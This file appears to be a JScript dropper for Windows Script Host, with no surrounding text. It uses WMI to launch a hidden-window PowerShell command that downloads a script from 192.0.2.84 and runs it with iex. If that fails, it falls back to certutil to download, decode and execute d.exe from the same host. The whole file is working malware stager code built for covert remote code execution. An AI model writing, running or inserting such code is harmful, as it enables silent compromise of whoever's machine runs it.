var svc = GetObject("winmgmts:{impersonationLevel=impersonate}!\\\\.\\root\\cimv2");
var startup = svc.Get("Win32_ProcessStartup").SpawnInstance_();
startup.ShowWindow = 0;
var proc = svc.Get("Win32_Process");
var pid;
var cmd = "powershell -nop -w hidden -c \"iwr http://192.0.2.84/d.ps1 -UseBasicParsing | iex\"";
var rc = proc.Create(cmd, null, startup, pid);
if (rc !== 0) {
    proc.Create("cmd.exe /c certutil -urlcache -f http://192.0.2.84/d.txt %TEMP%\\d.txt && certutil -decode %TEMP%\\d.txt %TEMP%\\d.exe && %TEMP%\\d.exe", null, startup, pid);
}
